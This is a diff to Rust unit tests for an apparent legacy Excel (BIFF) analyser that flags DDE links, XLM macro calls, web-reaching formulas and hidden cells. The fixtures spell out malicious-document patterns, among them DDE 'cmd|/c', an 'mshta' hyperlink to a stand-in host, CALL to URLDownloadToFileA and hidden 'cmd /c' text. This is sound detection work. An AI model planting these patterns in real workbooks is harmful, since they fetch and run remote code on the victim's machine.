@@ -100,7 +100,7 @@ fn sheets_names_links_and_cells() {
     let names: Vec<_> =
         biff.book.names.iter().map(|n| (n.name.as_str(), n.is_hidden, n.formula.as_str())).collect();
     assert_eq!(names, [("Auto_Open", true, "Macro1!$A$1")]);
-    assert_eq!(biff.facts, [Fact::External { relation: "dde".into(), target: "cmd|/c x".into() }]);
+    assert_eq!(biff.facts, [external("dde", "cmd|/c x"), external("dde-link", "cmd /c x")]);
     assert_eq!(cell(&biff, 0, 0, 1).1, Some(&Value::text("hello")));
     assert_eq!(cell(&biff, 0, 1, 1).1, Some(&Value::text("あい")));
     assert_eq!(cell(&biff, 1, 0, 0), (Some("EXEC(\"calc\")"), Some(&Value::text("ok"))));
@@ -108,6 +108,111 @@ fn sheets_names_links_and_cells() {
     assert_eq!(cell(&biff, 1, 2, 0).0, Some("A2&1"));
     assert_eq!(cell(&biff, 1, 3, 0).1, Some(&Value::Number(61.0)));
     assert!(biff.is_whole && !biff.is_locked);
+}
+
+fn external(relation: &str, target: &str) -> Fact {
+    Fact::External { relation: relation.into(), target: target.into() }
+}
+
+/// A call of a function by its number with texts and the cell above as arguments.
+fn call(number: u16, texts: &[&str]) -> Vec<u8> {
+    let mut tokens: Vec<u8> = texts.iter().flat_map(|text| [&[0x17][..], &short(text)].concat()).collect();
+    tokens.extend([0x44, 0, 0, 0, 0xc0, 0x08]);
+    let count = u8::try_from(texts.len()).unwrap();
+    tokens.extend([&[0x42, count][..], &number.to_le_bytes()].concat());
+    tokens
+}
+
+/// A workbook without macros: a sheet with these records, and before it these in the globals.
+fn ordinary(globals: &[Vec<u8>], state: u8, sheet: &[Vec<u8>]) -> Vec<u8> {
+    let bound = record(0x0085, &[&[0, 0, 0, 0, state, 0][..], &short("Data")].concat());
+    let parts = [begin(GLOBALS), globals.concat(), bound, record(END, &[]), begin(WORKSHEET), sheet.concat()];
+    [parts.concat(), record(END, &[])].concat()
+}
+
+/// Facts and children of a workbook.
+fn told(bytes: &[u8]) -> (Vec<Fact>, Vec<(String, String)>) {
+    let mut out = Opened::default();
+    let mut budget = Budget::new(&Limits::default());
+    let mut biff = read(bytes, false, &mut out, &budget).unwrap();
+    out.facts.append(&mut biff.facts);
+    crate::document::excel::give::outward(&mut biff.book, &mut out, &mut budget).unwrap();
+    let children = out
+        .children
+        .iter()
+        .map(|child| (child.kind.unwrap().id.to_string(), String::from_utf8(child.bytes.clone()).unwrap()));
+    (out.facts.clone(), children.collect())
+}
+
+#[test]
+fn formulas_of_ordinary_sheets_are_read_where_they_reach_outside() {
+    const HYPERLINK: u16 = 359;
+    let shared = call(HYPERLINK, &["mshta http://a.example/"]);
+    let length = u16::try_from(shared.len()).unwrap().to_le_bytes();
+    let sheet = [
+        formula(0, &call(4, &["http://a.example/"])),
+        formula(1, &call(HYPERLINK, &["http://b.example/?"])),
+        formula(2, &[0x01, 2, 0, 0, 0]),
+        record(0x04bc, &[&[2, 0, 9, 0, 0, 0, 0, 0][..], &length, &shared].concat()),
+        formula(11, &call(150, &["urlmon", "URLDownloadToFileA"])),
+    ];
+    let (facts, children) = told(&ordinary(&[], 0, &sheet));
+    assert_eq!(
+        facts,
+        [
+            external("formula-sends", "http://b.example/? (HYPERLINK)"),
+            external("hyperlink", "mshta http://a.example/")
+        ]
+    );
+    let listing = "Data!A12: =CALL(\"urlmon\",\"URLDownloadToFileA\"&A1)\n";
+    assert_eq!(children, [("xlm".to_string(), listing.to_string())]);
+}
+
+#[test]
+fn functions_without_a_number_are_known_by_their_names() {
+    let name = |text: &str| {
+        let head = [2, 0, 0, u8::try_from(text.len()).unwrap(), 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
+        record(0x0018, &[&head[..], text.as_bytes()].concat())
+    };
+    let tokens = [&[0x23, 1, 0, 0, 0, 0x17][..], &short("http://a.example/x"), &[0x42, 2, 255, 0]].concat();
+    let (facts, _) = told(&ordinary(&[name("_xlfn.WEBSERVICE")], 0, &[formula(0, &tokens)]));
+    assert_eq!(facts, [external("formula-asks", "http://a.example/x (WEBSERVICE)")]);
+    let (facts, _) = told(&ordinary(&[name("MyFunction")], 0, &[formula(0, &tokens)]));
+    assert_eq!(facts, []);
+}
+
+#[test]
+fn cells_that_are_not_seen_are_told_where_they_say_something() {
+    let label = |row: u8, column: u8, style: u8, text: &str| {
+        let length = u8::try_from(text.len()).unwrap();
+        let head = [row, 0, column, 0, style, 0, length, 0, 0];
+        record(0x0204, &[&head[..], text.as_bytes()].concat())
+    };
+    let font = |colour: u8| record(0x0031, &[200, 0, 0, 0, colour, 0, 0, 0]);
+    let style = |font: u8| record(0x00e0, &[&[font, 0][..], &[0; 18]].concat());
+    let globals = [font(8), font(9), style(0), style(1)];
+    let sheet = [
+        record(0x007d, &[5, 0, 6, 0, 0, 0, 0, 0, 1, 0, 0, 0]),
+        record(0x0208, &[1, 0, 0, 0, 9, 0, 0, 0, 0, 0, 0, 0, 0x20, 0, 0, 0]),
+        label(0, 0, 0, "cmd /c seen"),
+        label(0, 1, 1, "cmd /c white"),
+        label(0, 5, 0, "cmd /c column"),
+        label(1, 0, 0, "cmd /c row"),
+        label(1, 1, 0, "only a helper"),
+    ];
+    let (_, children) = told(&ordinary(&globals, 0, &sheet));
+    let want = "Data!B1 (colour of the cell) = cmd /c white\nData!F1 (hidden column) = cmd /c column\n\
+        Data!A2 (hidden row) = cmd /c row\n";
+    assert_eq!(children, [("hidden-text".to_string(), want.to_string())]);
+    let (_, children) = told(&ordinary(&globals, 2, &sheet));
+    assert_eq!(children[0].1.matches("(hidden sheet)").count(), 4);
+    let whole = ordinary(&globals, 2, &sheet);
+    for at in 0..whole.len() {
+        told(&whole[..at]);
+        let mut bad = whole.clone();
+        bad[at] ^= 1 << (at % 8);
+        told(&bad);
+    }
 }
 
 #[test]
@@ -123,6 +228,17 @@ fn a_sheet_is_found_wherever_it_stands() {
     let entry = memchr::memmem::find(&whole, b"\x02\x01\x06\0Macro1").unwrap();
     lying[entry + 1] = 0;
     assert!(open(&lying).book.sheets[1].is_macro);
+}
+
+#[test]
+fn a_stream_without_any_beginning_is_none() {
+    let biff = open(&[7; 5000]);
+    assert_eq!((biff.is_none, biff.is_whole), (true, false));
+    let whole = workbook();
+    let biff = open(&whole);
+    assert_eq!((biff.is_none, biff.is_whole), (false, true));
+    let biff = open(&whole[4 + 16..]);
+    assert_eq!((biff.is_none, biff.is_whole), (false, false));
 }
 
 #[test]
